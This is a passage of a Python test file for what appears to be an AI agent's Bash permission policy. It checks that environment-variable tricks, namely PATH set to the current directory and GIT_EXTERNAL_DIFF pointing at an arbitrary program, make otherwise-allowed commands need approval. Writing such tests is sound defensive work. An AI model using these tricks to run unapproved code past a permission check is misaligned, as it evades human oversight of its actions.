        ({"environment_variables": {"PATH": "."}}, "ls", ASK),
        ({"environment_variables": {"PATH": "."}}, "make", ASK),
        ({"environment_variables": {"GIT_EXTERNAL_DIFF": "x"}}, "git diff", ASK),
        ({"environment_variables": "PATH=."}, "ls", ASK),
        ({"run_in_background": True}, "make", ALLOW),
    ],
)
def test_the_other_fields_count(project, extra, command, expected):
    filled = {key: project.fill(value) if isinstance(value, str) else value for key, value in extra.items()}
    policy = project.policy(allow=["Bash(make *)"])
    assert policy.decide(tool_named("Bash"), {"command": command, **filled}).behavior == expected
